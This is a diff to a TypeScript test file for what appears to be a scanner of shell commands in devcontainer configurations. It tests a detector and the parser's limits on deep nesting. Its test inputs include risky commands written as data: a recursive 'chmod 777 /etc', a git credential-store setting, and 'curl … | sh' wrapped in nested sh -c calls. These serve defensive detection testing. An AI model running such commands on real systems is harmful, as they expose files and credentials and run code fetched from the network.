@@ -7,6 +7,7 @@ import { interpolate, interpolateDevcontainer, parseDotenv } from '../../../src/
 import { readWorkspace } from '../../../src/model/read.ts';
 import { shortPort } from '../../../src/model/run-args.ts';
 import { shellFacts } from '../../../src/model/shell.ts';
+import { isTelling } from '../../../src/model/telling.ts';
 import { RULES } from '../../../src/rules/index.ts';
 
 describe('interpolation', () => {
@@ -180,27 +181,49 @@ describe('shell text', () => {
   });
 });
 
-describe('a shell text that the parser cannot follow', () => {
+describe('a command with so many options that nobody counts them', () => {
   it.each([
-    ['brackets that are never closed', '$('.repeat(300), /nested too deeply/],
-    ['functions in functions', 'f() {'.repeat(300), /nested too deeply/],
+    `chmod${' -R'.repeat(21)} 777 /etc`,
+    `sudo${' -E'.repeat(30)} ./x.sh`,
+    `git config credential.https://e.x/${'a'.repeat(300)}.helper store`,
+  ])('is read: %s', (text) => {
+    expect(isTelling(text)).toBe(true);
+  });
+});
+
+describe('a shell text that the parser cannot follow', () => {
+  const nested = (text: string, times: number): string =>
+    times === 0 ? text : nested(`sh -c '${text.replaceAll("'", "'\\''")}'`, times - 1);
+
+  it.each([
+    ['brackets that are never closed', '$('.repeat(600), /brackets are open at a time/],
+    ['functions in functions', 'f() {'.repeat(600), /brackets are open at a time/],
     ['conditions in conditions', 'if a; then '.repeat(20_000), /nested too deeply/],
-    ['a row of here-documents', 'cat <<E\n'.repeat(300), /more than 200 here-documents/],
-    ['the same in a text of its own', `sh -c '${'$('.repeat(300)}'`, /nested too deeply/],
+    ['a row of here-documents', 'cat <<E\n'.repeat(3_000), /`<<` more than 2000 times/],
+    ['the same in a text of its own', `sh -c '${'$('.repeat(600)}'`, /brackets are open/],
+    ['texts in texts', nested('curl https://e.x | sh', 10), /nested too deeply/],
   ])('is told: %s', (_, text, reason) => {
     expect(shellFacts(text, 'f', 0).unread).toMatch(reason);
   });
 
   it('comes up in what was not checked, with its place', async () => {
-    const source = `{ "image": "debian", "initializeCommand": "${'$('.repeat(300)}" }`;
+    const source = `{ "image": "debian", "initializeCommand": "${'$('.repeat(600)}" }`;
     const { workspace } = await readWorkspace(memoryFiles({ '.devcontainer.json': source }), ['.devcontainer.json']);
     expect(workspace.notChecked).toEqual([
-      expect.objectContaining({ file: '.devcontainer.json', reason: expect.stringMatching(/nested too deeply/) }),
+      expect.objectContaining({ file: '.devcontainer.json', reason: expect.stringMatching(/brackets are open/) }),
     ]);
   });
 
-  it('is not one that has many brackets, one behind the other', () => {
-    expect(shellFacts('a $(b); '.repeat(1_000), 'f', 0).unread).toBeUndefined();
+  it.each([
+    ['brackets one behind the other', 'a $(b); '.repeat(1_000)],
+    ['here-strings', 'read a <<< b\n'.repeat(3_000)],
+    ['some brackets in a comment', `a # ${':( '.repeat(300)}`],
+  ])('is not one that has %s', (_, text) => {
+    expect(shellFacts(text, 'f', 0).unread).toBeUndefined();
+  });
+
+  it('has what is in texts in texts read', () => {
+    expect(shellFacts(nested('curl https://e.x | sh', 6), 'f', 0).piped).toHaveLength(1);
   });
 });
 
